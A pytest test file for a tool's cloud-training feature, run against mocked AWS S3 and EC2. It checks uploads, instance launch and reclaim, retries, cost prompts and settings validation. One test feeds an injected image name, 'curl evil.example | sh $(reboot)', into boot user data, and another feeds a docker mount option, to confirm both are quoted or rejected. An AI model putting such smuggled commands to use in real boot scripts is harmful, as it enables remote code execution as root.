"""Cloud training against moto's S3 and EC2 on loopback; the "instance" is the real cloud job, run here.

Only AWS is mocked (moto's server, reached over HTTP through AWS_ENDPOINT_URL exactly as boto3 reaches
AWS). When moto "launches" an instance, a thread here plays the instance: it reads the instance's user
data from EC2 and runs the command in it, the real `vibrary trainer run-s3`, with real torch.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
import os
import re
import shlex
import signal
import subprocess
import sys
import tempfile
import threading
import time
import types
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("torch")
pytest.importorskip("moto")
boto3 = pytest.importorskip("boto3")

from moto.server import ThreadedMotoServer  # noqa: E402
from vibrary.daemon import cloud, registry, shards  # noqa: E402
from vibrary.daemon.index import Index  # noqa: E402

from tests.conftest import FROM_A_TERMINAL, json_lines, vibrary, wait_for  # noqa: E402
from tests.test_trainer import KINDS, P, _free_port, _store, spectrograms, write_kinds  # noqa: E402

BUCKET = "vibrary-test"
IMAGE = "registry.example/vibrary-trainer:test"
RATE = 2000.0  # bytes per (fake) second: the upload's speed as the launch timing measures it


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch, home: Path) -> Iterator[dict[str, Any]]:
    """moto's S3 and EC2 on loopback, a bucket, and the cloud settings pointing there."""
    port = _free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    # the server keeps its state in this process's moto backends, which outlive a server: start empty
    urllib.request.urlopen(urllib.request.Request(f"http://127.0.0.1:{port}/moto-api/reset", method="POST"))
    env = {
        "AWS_ENDPOINT_URL": f"http://127.0.0.1:{port}",
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_CONFIG_FILE": str(home / "no-aws-config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(home / "no-aws-credentials"),
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    for key in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_REGION"):
        monkeypatch.delenv(key, raising=False)
    s3, ec2 = boto3.client("s3"), boto3.client("ec2")
    s3.create_bucket(Bucket=BUCKET)
    boto3.client("iam").create_instance_profile(InstanceProfileName="vibrary-trainer")
    ami = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    settings = {
        "BUCKET": BUCKET,
        "IMAGE": IMAGE,
        "AMI": ami,
        "POLL_S": "0.2",
        "INSTANCE_TYPE": "g4dn.xlarge",
        "INSTANCE_PROFILE": "vibrary-trainer",
    }
    for key, value in settings.items():
        monkeypatch.setenv(f"VIBRARY_CLOUD_{key}", value)
    monkeypatch.setenv("VIBRARY_JOB_POLL_S", "0.2")
    monkeypatch.setenv("VIBRARY_JOB_ALLOW_CPU", "1")  # the job runs here, on this machine's CPU
    calls: list[tuple[str, str]] = []  # (operation, S3 key) of every call Vibrary makes, in order
    real_session = cloud._session

    def spied_session(settings: cloud.CloudSettings) -> Any:
        session = real_session(settings)

        def record(params: dict[str, Any], model: Any, **_: Any) -> None:
            calls.append((model.name, str(params.get("Key", ""))))

        session.events.register("provide-client-params.s3", record)
        session.events.register("provide-client-params.ec2", record)
        return session

    monkeypatch.setattr(cloud, "_session", spied_session)
    yield {"s3": s3, "ec2": ec2, "env": {**os.environ}, "calls": calls}
    server.stop()


class Instances(threading.Thread):
    """Plays each EC2 instance moto launches: runs the trainer command from its user data, for real.
    `reclaim` ends one as AWS ends a reclaimed spot instance: terminated, its process killed. `runs` holds
    each instance's finished process, in launch order, once the block is left."""

    def __init__(self, ec2: Any, env: dict[str, str]) -> None:
        super().__init__(daemon=True)
        self.ec2, self.env = ec2, env
        self.user_data: dict[str, str] = {}
        self.processes: dict[str, tuple[subprocess.Popen[bytes], Any]] = {}
        self.runs: list[subprocess.CompletedProcess[str]] = []
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.wait(0.1):
            for r in self.ec2.describe_instances()["Reservations"]:
                for i in r["Instances"]:
                    instance = i["InstanceId"]
                    if instance in self.user_data or i["State"]["Name"] not in ("pending", "running"):
                        continue
                    attr = self.ec2.describe_instance_attribute(InstanceId=instance, Attribute="userData")
                    script = base64.b64decode(attr["UserData"]["Value"]).decode()
                    self.user_data[instance] = script
                    command = re.search(r"vibrary trainer run-s3 (\S+)", script)
                    if command:
                        argv = [sys.executable, "-m", "vibrary.clients.cli", "trainer", "run-s3", command[1]]
                        log = tempfile.TemporaryFile()  # noqa: SIM115 - closed in __exit__; a pipe would fill and stall the job
                        self.processes[instance] = (subprocess.Popen(argv, env=self.env, stderr=log), log)

    def reclaim(self, instance: str) -> None:
        self.ec2.terminate_instances(InstanceIds=[instance])
        self.processes[instance][0].kill()

    def __enter__(self) -> Instances:
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.join(timeout=60)
        for proc, log in self.processes.values():
            proc.wait(timeout=240)
            log.seek(0)
            self.runs.append(subprocess.CompletedProcess(proc.args, proc.returncode, "", log.read().decode()))
            log.close()


def _instances(ec2: Any) -> list[dict[str, Any]]:
    return [i for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]]


def _states(ec2: Any) -> list[str]:
    return [i["State"]["Name"] for i in _instances(ec2)]


def _keys(s3: Any, prefix: str = "") -> list[str]:
    return [o["Key"] for o in s3.list_objects_v2(Bucket=BUCKET, Prefix=prefix).get("Contents", [])]


def _dataset(tmp_path: Path, per_kind: int, clips_per_shard: int) -> shards.Manifest:
    codes, labels, groups = spectrograms(per_kind, 0)
    order = np.random.default_rng(0).permutation(len(labels))  # every shard holds every kind
    saved = shards.SHARD_CLIPS
    shards.SHARD_CLIPS = clips_per_shard
    try:
        manifest, blobs = shards.write("kinds", list(KINDS), P, codes[order], labels[order], [groups[i] for i in order])
    finally:
        shards.SHARD_CLIPS = saved
    tmp_path.mkdir(exist_ok=True)
    _store(blobs, tmp_path)
    return manifest


def test_train_in_the_cloud_end_to_end(
    aws: dict[str, Any], model_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = _dataset(tmp_path / "shards", per_kind=8, clips_per_shard=4)
    assert len(manifest.shards) == 6
    # a fake clock that moves with the bytes uploaded: the upload rate is measured as RATE exactly
    clock = [0.0]

    def tick(params: dict[str, Any], **_: Any) -> None:
        if str(params.get("Key", "")).startswith("shards/"):
            clock[0] += len(params["Body"]) / RATE

    real_session = cloud._session
    fake = types.SimpleNamespace(monotonic=lambda: clock[0], sleep=time.sleep, time=time.time)
    monkeypatch.setattr(cloud, "time", fake)
    monkeypatch.setattr(cloud, "ASSUMED_RATE", 1.0)  # before any measurement the upload looks long

    def session(settings: cloud.CloudSettings) -> Any:
        s = real_session(settings)
        s.events.register("provide-client-params.s3.PutObject", tick)
        return s

    monkeypatch.setattr(cloud, "_session", session)
    boot_s = 0.4 * manifest.size / RATE  # the instance boots while the last 40% of the bytes upload
    monkeypatch.setenv("VIBRARY_CLOUD_BOOT_S", str(boot_s))

    seen: list[Any] = []

    def accept(text: str) -> bool:
        seen.append(("confirm", text))
        return True

    with Instances(aws["ec2"], aws["env"]) as instances:
        files = cloud.train_in_cloud(
            manifest,
            tmp_path / "shards",
            name="cloudy",
            base="none",
            options='{"epochs": 2}',
            confirm=accept,
            progress=lambda p: seen.append(("progress", dict(p))),
        )
    assert [r.returncode for r in instances.runs] == [0], [r.stderr[-2000:] for r in instances.runs]

    # the cost was shown first, with the price of the instance type
    assert seen[0][0] == "confirm" and "g4dn.xlarge" in seen[0][1] and "$0.526/hour" in seen[0][1]
    calls = aws["calls"]
    shard_puts = [i for i, (op, key) in enumerate(calls) if op == "PutObject" and key.startswith("shards/")]
    assert sorted(calls[i][1] for i in shard_puts) == sorted(cloud.shard_key(s.sha256) for s in manifest.shards)
    launched = [i for i, (op, _) in enumerate(calls) if op == "RunInstances"]
    assert len(launched) == 1
    # launched at the first moment the rest of the upload took no longer than the boot: not before, not after
    sizes = {cloud.shard_key(s.sha256): s.size for s in manifest.shards}
    before = [i for i in shard_puts if i < launched[0]]
    remaining = manifest.size - sum(sizes[calls[i][1]] for i in before)
    assert 0 < len(before) < len(shard_puts)
    assert remaining / RATE <= boot_s < (remaining + sizes[calls[before[-1]][1]]) / RATE
    # the instance runs the image on the job, caps its own life, and ends by shutting down (= terminate)
    (script,) = instances.user_data.values()
    assert f"--gpus all --network host -e AWS_DEFAULT_REGION=us-east-1 {IMAGE} vibrary trainer run-s3 s3://" in script
    assert script.splitlines()[2] == "shutdown -h +240" and script.rstrip().endswith("shutdown -h now")
    states = [p["state"] for kind, p in seen if kind == "progress"]
    assert states[0] == "UPLOADING" and "WAITING" in states and states.index("WAITING") < len(states) - 1
    assert "TRAINING" in states and states.index("WAITING") < states.index("TRAINING")
    # the client cleaned up: instance terminated, job files gone, shards kept for the next training
    assert _states(aws["ec2"]) == ["terminated"]
    assert _keys(aws["s3"], "jobs/") == [] and len(_keys(aws["s3"], "shards/")) == len(manifest.shards)

    # the model back on this machine, installed, and tagging
    assert set(files) == {"model.onnx", "learning_curve.png", "confusion_matrix.png", "summary.json"}
    assert b'"epochs_run": 2' in files["summary.json"]
    (tmp_path / "cloudy.onnx").write_bytes(files["model.onnx"])
    index = Index(model_home / "index.sqlite")
    index.set_active(registry.install(index, model_home, str(tmp_path / "cloudy.onnx"), "cloudy"), True)
    index.close()
    write_kinds(tmp_path / "new", per_kind=2, seed=7)
    tagged = json_lines(vibrary("tag", "--json", "--model", "cloudy", str(tmp_path / "new"), home=model_home).stdout)
    assert len(tagged) == 6
    for line in tagged:
        assert line["error"] is None and line["tags"] and {t["model"] for t in line["tags"]} == {"cloudy"}
        assert {t["tag"] for t in line["tags"]} <= set(KINDS)


def test_nothing_is_uploaded_or_launched_when_the_cost_is_declined(aws: dict[str, Any], tmp_path: Path) -> None:
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    shown: list[str] = []

    def decline(text: str) -> bool:
        shown.append(text)
        return False

    with pytest.raises(cloud.CostDeclined):
        cloud.train_in_cloud(
            manifest,
            tmp_path,
            name="n",
            base="none",
            options="{}",
            confirm=decline,
            progress=lambda p: None,
        )
    assert len(shown) == 1 and f"s3://{BUCKET}" in shown[0]
    assert _keys(aws["s3"]) == [] and _states(aws["ec2"]) == []
    assert {op for op, _ in aws["calls"]} == {"HeadBucket", "HeadObject"}  # reads only


@pytest.mark.parametrize(
    ("name", "per_thump", "why"),
    [("t", 1, r"thump \(1\)"), ("../t", 4, r"model name '\.\./t'")],  # the job checks the name as the trainer does
    ids=["a class of one clip", "a model name that is no folder name"],
)
def test_a_failed_job_says_why_and_its_instance_is_terminated(
    aws: dict[str, Any], tmp_path: Path, name: str, per_thump: int, why: str
) -> None:
    codes, labels, groups = spectrograms(4, 0)
    keep = np.r_[np.flatnonzero(labels != 2), np.flatnonzero(labels == 2)[:per_thump]]
    manifest, blobs = shards.write("thin", list(KINDS), P, codes[keep], labels[keep], [groups[i] for i in keep])
    _store(blobs, tmp_path)
    with Instances(aws["ec2"], aws["env"]) as instances, pytest.raises(cloud.CloudError, match=why):
        cloud.train_in_cloud(
            manifest, tmp_path, name=name, base="none", options="{}", confirm=lambda t: True, progress=lambda p: None
        )
    assert [r.returncode for r in instances.runs] == [1]
    calls = aws["calls"]
    first_shard = next(i for i, (op, key) in enumerate(calls) if op == "PutObject" and key.startswith("shards/"))
    assert calls.index(("RunInstances", "")) < first_shard  # a short upload: the instance is launched at once
    assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []


def test_an_instance_that_never_reports_is_stopped_at_the_timeout(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    monkeypatch.setenv("VIBRARY_CLOUD_TIMEOUT_S", "1")
    with pytest.raises(cloud.CloudError, match="more than the 1 s this machine waits"):  # not launched at all
        cloud.train_in_cloud(
            manifest, tmp_path, name="t", base="none", options="{}", confirm=lambda t: True, progress=lambda p: None
        )
    assert _states(aws["ec2"]) == []
    with cloud._aws() as (settings, s3, ec2):  # one launched all the same (the estimate wrong): ended at the timeout
        job = cloud._Job(settings, s3, ec2, s3.meta.region_name)
        job.launch(lambda p: None, "a test")
        with pytest.raises(cloud.CloudError, match="took more than 1 s"):
            cloud._outcome(job, lambda p: None)
    assert _states(aws["ec2"]) == ["terminated"]


def test_a_bucket_that_is_not_there_is_said_before_the_cost(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It was found once the cost was accepted, as "NoSuchBucket when calling the PutObject operation"."""
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    monkeypatch.setenv("VIBRARY_CLOUD_BUCKET", "no-such-bucket")
    asked: list[str] = []
    with pytest.raises(cloud.CloudError, match=r"no bucket 'no-such-bucket' in us-east-1 \(the cloud settings' bucket"):
        cloud.train_in_cloud(
            manifest, tmp_path, name="t", base="none", options="{}", confirm=asked.append, progress=lambda p: None
        )
    assert asked == [] and _states(aws["ec2"]) == []


def _train_long(manifest: shards.Manifest, folder: Path, epochs: int, progress: Any) -> dict[str, bytes]:
    """A cloud training of `epochs` epochs, all of them run (no early stop), its cost accepted."""
    options = json.dumps({"epochs": epochs, "patience": epochs})
    return cloud.train_in_cloud(
        manifest, folder, name="t", base="none", options=options, confirm=lambda t: True, progress=progress
    )


def test_an_instance_ended_mid_training_is_replaced_and_the_new_one_goes_on_from_the_checkpoint(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """AWS takes the instance back mid-training: a new one is launched, fetches the job's checkpoint from
    the bucket and trains only the epochs left; everything is cleaned up at the end."""
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    monkeypatch.setenv("VIBRARY_CLOUD_RELAUNCHES", "1")
    epochs = 60
    reclaimed: list[str] = []

    with Instances(aws["ec2"], aws["env"]) as instances:

        def progress(update: dict[str, Any]) -> None:  # AWS takes it back once its first checkpoint is up
            if not reclaimed and any(k.endswith("/checkpoint.pt") for k in _keys(aws["s3"], "jobs/")):
                (first,) = [i["InstanceId"] for i in _instances(aws["ec2"])]
                instances.reclaim(first)
                reclaimed.append(first)

        files = _train_long(manifest, tmp_path, epochs, progress)
    assert reclaimed and [r.returncode for r in instances.runs][1:] == [0], [r.stderr[-2000:] for r in instances.runs]
    assert instances.runs[0].returncode != 0  # killed with its instance
    summary = json.loads(files["summary.json"])
    assert 1 <= summary["resumed_from_epoch"] < epochs and summary["epochs_run"] == epochs
    assert _states(aws["ec2"]) == ["terminated", "terminated"] and _keys(aws["s3"], "jobs/") == []


def test_a_training_that_died_and_shut_its_instance_down_is_not_run_again(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The training process killed inside the instance (out of memory) writes nothing, and the boot script
    shuts the instance down: that was taken for a reclaim, and the same paid run launched again, to die the
    same way. AWS says which it was (StateReason); moto cannot, so its answer is given here."""
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    monkeypatch.setenv("VIBRARY_CLOUD_RELAUNCHES", "2")
    killed: list[str] = []
    real = cloud.job_instances

    def as_aws_says(ec2: Any, job_id: str) -> list[dict[str, Any]]:
        found = real(ec2, job_id)
        for i in found:
            if i["InstanceId"] in killed:
                i["StateReason"] = {"Code": "Client.InstanceInitiatedShutdown", "Message": "shut down by the OS"}
        return found

    monkeypatch.setattr(cloud, "job_instances", as_aws_says)
    with Instances(aws["ec2"], aws["env"]) as instances:

        def progress(update: dict[str, Any]) -> None:  # dies once it trains
            if not killed and update.get("state") == "TRAINING" and update.get("epoch"):
                (first,) = [i["InstanceId"] for i in _instances(aws["ec2"])]
                instances.reclaim(first)
                killed.append(first)

        with pytest.raises(cloud.CloudError, match=r"stopped without a word .* shut itself down; see its console"):
            _train_long(manifest, tmp_path, 60, progress)
    assert killed and len(_instances(aws["ec2"])) == 1  # not launched again


def test_aws_out_of_reach_for_a_while_mid_training_loses_nothing(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A laptop's Wi-Fi gone for a moment while its cloud job trains: botocore's own retries are over in
    seconds, and the one poll that failed ended the job, its instance terminated and its checkpoint deleted.
    AWS (moto) is reached here through a relay whose connections are refused for a while; the instance
    itself reaches it directly."""
    from tests.test_trainer import _Link

    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    link = _Link(aws["env"]["AWS_ENDPOINT_URL"].removeprefix("http://"))
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{link.address}")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    said: list[str] = []

    def progress(update: dict[str, Any]) -> None:
        said.append(update.get("message", ""))
        if update.get("state") == "TRAINING" and not link.down and not any("out of reach" in m for m in said):
            link.outage()  # from the next poll on, for a second

    try:
        with Instances(aws["ec2"], aws["env"]) as instances:
            files = _train_long(manifest, tmp_path, 30, progress)
    finally:
        link.close()
    assert [r.returncode for r in instances.runs] == [0], [r.stderr[-2000:] for r in instances.runs]
    assert any(m.startswith("AWS is out of reach") for m in said)
    assert json.loads(files["summary.json"])["epochs_run"] == 30
    assert _states(aws["ec2"]) == ["terminated"] and _keys(aws["s3"], "jobs/") == []


def test_aws_throttling_or_failing_is_asked_again_and_a_refusal_is_said_at_once() -> None:
    """Only a connection error was asked again: throttling (SlowDown, RequestLimitExceeded) or a 503 once
    botocore's own retries were spent ended a paid training and deleted its checkpoint."""
    from botocore.exceptions import ClientError

    def refusal(code: str, status: int) -> ClientError:
        return ClientError(
            {"Error": {"Code": code, "Message": code}, "ResponseMetadata": {"HTTPStatusCode": status}}, "X"
        )

    for passing in (refusal("SlowDown", 503), refusal("RequestLimitExceeded", 400), refusal("InternalError", 500)):
        answers: list[Any] = [passing, passing, "progress"]

        def call(answers: list[Any] = answers) -> str:
            answer = answers.pop(0)
            if isinstance(answer, Exception):
                raise answer
            return str(answer)

        said: list[dict[str, Any]] = []
        assert cloud.patiently(call, said.append, 0.01, time.monotonic() + 30) == "progress"
        assert len(said) == 2 and "asking again" in said[0]["message"]

    def denied() -> str:
        raise refusal("AccessDenied", 403)

    started = time.monotonic()
    with pytest.raises(ClientError, match="AccessDenied"):
        cloud.patiently(denied, lambda _: None, 0.01, time.monotonic() + 30)
    assert time.monotonic() - started < 5


def test_an_instance_is_not_replaced_beyond_the_setting_or_before_it_trained(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An instance that ends before its job trains (a bad image or role) is not replaced: the next would
    fail the same way; nor is one past `relaunches`."""
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)
    for relaunches, training_first in ((2, False), (0, True)):
        monkeypatch.setenv("VIBRARY_CLOUD_RELAUNCHES", str(relaunches))
        ended: list[str] = []
        instances = Instances(aws["ec2"], aws["env"])

        def progress(
            update: dict[str, Any],
            training_first: bool = training_first,
            ended: list[str] = ended,
            vms: Instances = instances,
        ) -> None:
            if ended or (training_first and update.get("state") != "TRAINING"):
                return
            for i in _instances(aws["ec2"]):
                if i["State"]["Name"] in ("pending", "running") and i["InstanceId"] in vms.processes:
                    vms.reclaim(i["InstanceId"])
                    ended.append(i["InstanceId"])

        expected = "before it trained" if not training_first else "the job's 1th instance"
        with instances, pytest.raises(cloud.CloudError, match=expected):
            _train_long(manifest, tmp_path, 60, progress)
        assert ended and all(state == "terminated" for state in _states(aws["ec2"]))


def _random_shard(clips: int, seed: int) -> tuple[shards.ShardInfo, bytes]:
    rng = np.random.default_rng(seed)
    codes = rng.integers(0, 256, (clips, *P.shape), dtype=np.uint8)  # noise: it does not compress
    labels = np.arange(clips) % len(KINDS)
    manifest, blobs = shards.write("big", list(KINDS), P, codes, labels, [f"g{i % 4}" for i in range(clips)])
    (info,) = manifest.shards
    return info, blobs[info.sha256]


def test_an_interrupted_upload_resumes_without_sending_anything_twice(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cloud, "PART_SIZE", 5 << 20)  # S3's smallest part
    parts = [_random_shard(3, 1), _random_shard(256, 2), _random_shard(3, 3)]  # small, two parts, small
    assert parts[1][0].size > cloud.PART_SIZE
    manifest = shards.Manifest("big", list(KINDS), P, [info for info, _ in parts])
    _store({info.sha256: blob for info, blob in parts}, tmp_path)
    s3 = boto3.client("s3")
    ops: list[tuple[str, Any]] = []
    s3.meta.events.register(
        "provide-client-params.s3", lambda params, model, **_: ops.append((model.name, params.get("PartNumber")))
    )

    sent: list[int] = []

    def network_breaks(n: int) -> None:
        sent.append(n)
        if len(sent) == 2:  # the small shard and the big one's first part are up
            raise ConnectionError("network went away")

    missing = cloud.missing_shards(s3, BUCKET, manifest)
    assert len(missing) == 3
    with pytest.raises(ConnectionError):
        cloud.upload_shards(s3, BUCKET, missing, tmp_path, network_breaks)
    assert sum(sent) == parts[0][0].size + cloud.PART_SIZE

    ops.clear()
    missing = cloud.missing_shards(s3, BUCKET, manifest)
    assert [sha for sha, _ in missing] == [parts[1][0].sha256, parts[2][0].sha256]
    resent: list[int] = []
    cloud.upload_shards(s3, BUCKET, missing, tmp_path, resent.append)
    assert sum(resent) == manifest.size - sum(sent)  # only what had not arrived
    uploads = [(op, n) for op, n in ops if op in ("PutObject", "UploadPart", "CreateMultipartUpload")]
    assert uploads == [("UploadPart", 2), ("PutObject", None)]
    for info, blob in parts:
        body = s3.get_object(Bucket=BUCKET, Key=cloud.shard_key(info.sha256))["Body"].read()
        assert hashlib.sha256(body).hexdigest() == info.sha256 and body == blob
    assert cloud.missing_shards(s3, BUCKET, manifest) == []
    assert s3.list_multipart_uploads(Bucket=BUCKET).get("Uploads", []) == []


def test_launch_timing_follows_the_measured_rate() -> None:
    mb = 1 << 20
    assert cloud.launch_due(0, 10 * mb, 0.0, boot_s=240)  # short upload: at once
    assert not cloud.launch_due(0, 10_000 * mb, 0.0, boot_s=240)  # long: wait for a measurement
    assert not cloud.launch_due(100 * mb, 1000 * mb, 100.0, boot_s=240)  # 900 s left at 1 MB/s
    assert cloud.launch_due(800 * mb, 1000 * mb, 800.0, boot_s=240)  # 200 s left: boot now
    assert cloud.launch_due(5, 5, 1.0, boot_s=0)  # done


def test_settings_say_what_is_missing(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for key in ("BUCKET", "IMAGE", "INSTANCE_PROFILE"):
        monkeypatch.delenv(f"VIBRARY_CLOUD_{key}", raising=False)
    every = "set VIBRARY_CLOUD_BUCKET, VIBRARY_CLOUD_IMAGE, VIBRARY_CLOUD_INSTANCE_PROFILE (or 'bucket', 'image',"
    with pytest.raises(cloud.CloudError, match=re.escape(every)):  # at once: it took a run for each
        cloud.CloudSettings.load(home)
    said = vibrary("train", "mine", "--trainer", "cloud", home=home, check=False)  # before advice and upload lines
    assert said.returncode == 1 and every in said.stderr and "upload" not in said.stderr, said.stderr
    (home / "cloud.json").write_text('{"bucket": "b", "image": "i", "instance_type": "g5.xlarge", "colour": 1}')
    with pytest.raises(cloud.CloudError, match="unknown settings \\['colour'\\]"):
        cloud.CloudSettings.load(home)
    (home / "cloud.json").write_text('{"bucket": "b", "image": "i", "instance_type": "g5.xlarge"}')
    monkeypatch.delenv("VIBRARY_CLOUD_INSTANCE_PROFILE", raising=False)
    with pytest.raises(cloud.CloudError, match="VIBRARY_CLOUD_INSTANCE_PROFILE"):  # the job could not say it failed
        cloud.CloudSettings.load(home)
    (home / "cloud.json").write_text(
        '{"bucket": "b", "image": "i", "instance_type": "g5.xlarge", "instance_profile": "p"}'
    )
    monkeypatch.setenv("VIBRARY_CLOUD_BOOT_S", "90")
    settings = cloud.CloudSettings.load(home)
    assert (settings.bucket, settings.instance_type, settings.boot_s) == ("b", "g5.xlarge", 90.0)
    for bad, says in [
        ('{"bucket": null, "image": "i"}', "'bucket' .* must be text, not null"),
        ('{"bucket": "b", "image": "i", "relaunches": 2.5}', "'relaunches' .* whole number, not 2.5"),
        ('{"bucket": "b", "image": "i", "poll_s": 0}', "'poll_s' .* more than 0"),
        ('{"bucket": "b", "image": "i", "max_hours": -1}', "'max_hours' .* more than 0"),
        ('["bucket", "b"]', "expected an object"),
        ('{"bucket": "b", "image": "-v=/:/h", "instance_profile": "p"}', "not an image name"),  # docker's option
        ('{"bucket": "b", "image": "img rm", "instance_profile": "p"}', "not an image name"),
    ]:
        (home / "cloud.json").write_text(bad)
        with pytest.raises(cloud.CloudError, match=says):
            cloud.CloudSettings.load(home)
    (home / "cloud.json").write_text('{"bucket": "b", "image": "i"}')
    monkeypatch.setenv("VIBRARY_CLOUD_BOOT_S", "fast")
    with pytest.raises(cloud.CloudError, match=r"VIBRARY_CLOUD_BOOT_S .* must be a number, not \"fast\""):
        cloud.CloudSettings.load(home)


def test_an_image_in_ecr_is_pulled_after_a_login_with_the_instance_role() -> None:
    ecr = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/vibrary-trainer:cuda"
    script = cloud.user_data(cloud.CloudSettings(bucket="b", image=ecr), "eu-west-1", "s3://b/jobs/x/job.json")
    lines = script.splitlines()
    login = next(i for i, line in enumerate(lines) if "docker login" in line)
    assert "--password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com" in lines[login]
    assert login < next(i for i, line in enumerate(lines) if line.startswith("docker run"))
    plain = cloud.user_data(cloud.CloudSettings(bucket="b", image="ghcr.io/me/t:1"), "r", "s3://b/j")
    assert "docker login" not in plain
    odd = "ghcr.io/me/t:1; curl evil.example | sh $(reboot)"  # run as root at boot, as the shell read it
    (run,) = [
        line
        for line in cloud.user_data(cloud.CloudSettings(image=odd), "r", "s3://b/j").splitlines()
        if "docker" in line
    ]
    assert shlex.split(run)[-5:] == [odd, "vibrary", "trainer", "run-s3", "s3://b/j"]


def test_bad_base_missing_credentials_or_region_are_said_plainly(
    aws: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    manifest = _dataset(tmp_path, per_kind=4, clips_per_shard=256)

    def train() -> None:
        cloud.train_in_cloud(
            manifest, tmp_path, name="t", base="none", options="{}", confirm=lambda t: True, progress=lambda p: None
        )

    with pytest.raises(cloud.CloudError, match="base demo or none"):
        cloud.train_in_cloud(
            manifest, tmp_path, name="t", base="/x.pt", options="{}", confirm=lambda t: True, progress=lambda p: None
        )
    monkeypatch.delenv("AWS_DEFAULT_REGION")
    with pytest.raises(cloud.CloudError, match="AWS: You must specify a region"):
        train()
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.delenv(key)
    with pytest.raises(cloud.CloudError, match="AWS: Unable to locate credentials"):
        train()
    assert _states(aws["ec2"]) == []


def test_a_training_cut_off_mid_upload_cleans_up_and_the_next_sends_only_the_rest(
    aws: dict[str, Any], tmp_path: Path
) -> None:
    manifest = _dataset(tmp_path, per_kind=8, clips_per_shard=4)

    class Cut(Exception):
        pass

    def cut_after_two(p: dict[str, Any]) -> None:  # the user cancels, or the network goes, mid-upload
        if p["state"] == "UPLOADING" and p["uploaded_bytes"] >= manifest.shards[0].size + manifest.shards[1].size:
            raise Cut

    def train(progress: Any) -> dict[str, bytes]:
        return cloud.train_in_cloud(
            manifest,
            tmp_path,
            name="again",
            base="none",
            options='{"epochs": 1}',
            confirm=lambda t: True,
            progress=progress,
        )

    with pytest.raises(Cut):
        train(cut_after_two)
    assert _states(aws["ec2"]) == ["terminated"]  # launched at once (a short upload), and gone again
    assert _keys(aws["s3"], "jobs/") == [] and len(_keys(aws["s3"], "shards/")) == 2

    calls = aws["calls"]
    calls.clear()
    with Instances(aws["ec2"], aws["env"]) as instances:
        files = train(lambda p: None)
    assert [r.returncode for r in instances.runs] == [0], [r.stderr[-2000:] for r in instances.runs]
    resent = sorted(key for op, key in calls if op == "PutObject" and key.startswith("shards/"))
    assert resent == sorted(cloud.shard_key(s.sha256) for s in manifest.shards[2:])
    assert files["model.onnx"] and _states(aws["ec2"]) == ["terminated", "terminated"]


def test_the_estimate_of_tags_the_demo_knows_counts_one_fit_and_says_it_costs_nothing_here() -> None:
    settings = cloud.CloudSettings(bucket=BUCKET)
    many = [shards.ShardInfo("0" * 64, 3000, 10**6)]
    drums = shards.Manifest("drums", ["kick", "snare", "hihat"], P, many)
    fit = cloud.estimate(settings, drums, "{}", 10**6)
    assert "one fit from what the demo model knows" in fit.text and "no cost" in fit.text
    assert cloud.estimate(settings, drums, "{}", 10**6, "") == fit  # "" is the demo, as train_in_cloud reads it
    for options, base in (('{"known_pull": 0}', "demo"), ("{}", "none")):  # --as-new, or from scratch: epochs
        epochs = cloud.estimate(settings, drums, options, 10**6, base)
        assert "up to 40 epochs" in epochs.text and epochs.minutes > fit.minutes
    moods = shards.Manifest("moods", ["dark", "bright", "warm"], P, many)
    assert "up to 40 epochs" in cloud.estimate(settings, moods, "{}", 10**6).text


def test_an_estimate_past_the_instances_time_limit_launches_nothing_and_the_worst_case_is_said() -> None:
    """ "About 347 minutes" was accepted with a 240-minute limit: the instance would be cut off at the limit,
    paid for, with nothing to show; and "it ends itself after 4 hours at most" left out its replacements."""
    settings = cloud.CloudSettings(bucket=BUCKET)
    moods = shards.Manifest("moods", ["dark", "bright", "warm"], P, [shards.ShardInfo("0" * 64, 3000, 10**6)])
    said = cloud.estimate(settings, moods, "{}", 10**6).text
    assert "Each instance ends itself after 4 hours at most (12 hours in all if it is replaced 2 times)" in said
